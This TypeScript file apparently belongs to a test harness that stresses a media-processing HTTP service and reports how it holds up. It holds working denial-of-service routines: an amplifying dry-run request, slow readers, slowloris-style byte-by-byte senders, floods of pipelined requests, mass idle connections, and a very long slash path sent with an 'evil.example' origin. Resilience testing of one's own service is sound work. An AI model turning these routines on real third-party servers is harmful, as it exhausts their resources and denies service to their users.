/** Callers that cost much: requests that take long to answer, and connections that are held. */
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { STRANGER } from './hostile-stage.ts';

/** Runs against the host until the signal, and tells how the host took it. */
export type Attack = (host: URL, signal: AbortSignal) => Promise<string>;

const MB = 1024 * 1024;

/** A request of 246 KB for a plan whose answer has 84 MB. */
function dryRun(): string {
  const url = (length: number, at: number) => `http://e.x/${at}${'a'.repeat(length - 13)}`;
  const many = [0, 1, 2].map((block) => ({
    name: `b${block}`,
    urls: Array.from({ length: 10 }, (_, at) => url(6_000, 100 * block + at)),
  }));
  const single = Array.from({ length: 7 }, (_, block) => ({ name: `s${block}`, urls: [url(8_190, block)] }));
  const music = { m: [url(8_190, 1)] };
  const body = { task_name: 'dry', video_blocks: [...many, ...single], dry_run: true, audio_blocks: music };
  return JSON.stringify(body);
}

/** Posts it and reads the answer, one after the other. */
export const dryRuns: Attack = async (host, signal) => {
  const body = dryRun();
  const answers = new Tally();
  while (!signal.aborted) {
    const { status, bytes } = await send(host, '/process_media', { body });
    answers.add(`${status} with ${(bytes / MB).toFixed(1)} MB`);
  }
  return answers.text();
};

/** Twenty callers who post it, and never read the answer. */
export const slowReaders: Attack = (host, signal) => {
  const body = dryRun();
  const head = `POST /process_media HTTP/1.1\r\nHost: ${host.host}\r\nContent-Type: application/json\r\n`;
  return hold(host, signal, 20, (socket) => {
    socket.pause();
    socket.write(`${head}Content-Length: ${body.length}\r\n\r\n${body}`);
  });
};

export const slashes: Attack = async (host, signal) => {
  const answers = new Tally();
  const path = `${'/'.repeat(15_800)}x`;
  const headers = {
    'sec-fetch-site': 'cross-site',
    'sec-fetch-mode': 'no-cors',
    origin: 'https://evil.example',
  };
  const loop = async () => {
    while (!signal.aborted) answers.add(String((await send(host, path, { headers })).status));
  };
  await Promise.all([1, 2, 3, 4, 5, 6].map(loop));
  return answers.text();
};

export const idle: Attack = (host, signal) => hold(host, signal, 1_000, () => {});

/** Sends many requests at once, and reads no answer. */
export const pipelined: Attack = (host, signal) =>
  hold(host, signal, 1_000, (socket) => {
    socket.pause();
    socket.write(`GET /tasks/x HTTP/1.1\r\nHost: ${host.host}\r\n\r\n`.repeat(200));
  });

/** Sends a body byte by byte. */
export const slowSenders: Attack = (host, signal) =>
  hold(host, signal, 300, (socket) => {
    const head = `POST /process_media HTTP/1.1\r\nHost: ${host.host}\r\nContent-Type: application/json\r\n`;
    socket.write(`${head}Content-Length: 200000\r\n\r\n`);
    const timer = setInterval(() => socket.write(' '), 1_000);
    socket.once('close', () => clearInterval(timer));
  });

async function hold(
  host: URL,
  signal: AbortSignal,
  many: number,
  begin: (socket: Socket) => void,
): Promise<string> {
  let [opened, closed] = [0, 0];
  const sockets = Array.from({ length: many }, () => {
    const socket = connect({ host: host.hostname, port: Number(host.port), localAddress: STRANGER });
    socket.once('connect', () => {
      opened += 1;
      begin(socket);
    });
    // A paused socket does not see the end, but a reset.
    socket
      .on('error', () => {})
      .once('close', () => {
        closed += 1;
      });
    return socket;
  });
  await sleep(1e9, undefined, { signal }).catch(() => {});
  const text = `${opened} of ${many} connected, ${closed} closed by the host`;
  for (const socket of sockets) socket.destroy();
  return text;
}

/** Counts equal texts. */
class Tally {
  readonly #counts = new Map<string, number>();

  add(text: string): void {
    this.#counts.set(text, (this.#counts.get(text) ?? 0) + 1);
  }

  text(): string {
    return [...this.#counts].map(([text, count]) => `${count} x ${text}`).join(', ');
  }
}

function send(
  host: URL,
  path: string,
  { body, headers = {} }: { body?: string; headers?: Record<string, string> },
): Promise<{ status: number | string; bytes: number }> {
  return new Promise((resolve) => {
    const asked = request({
      ...{ host: host.hostname, port: host.port, localAddress: STRANGER, path, agent: false },
      method: body === undefined ? 'GET' : 'POST',
      headers: { host: host.host, 'content-type': 'application/json', ...headers },
    });
    asked.once('response', (response) => {
      let bytes = 0;
      response.on('data', (chunk: Buffer) => {
        bytes += chunk.length;
      });
      response.once('close', () => resolve({ status: response.statusCode ?? 0, bytes }));
    });
    asked.once('error', (error: NodeJS.ErrnoException) => {
      setTimeout(() => resolve({ status: error.code ?? 'error', bytes: 0 }), 20);
    });
    asked.end(body);
  });
}
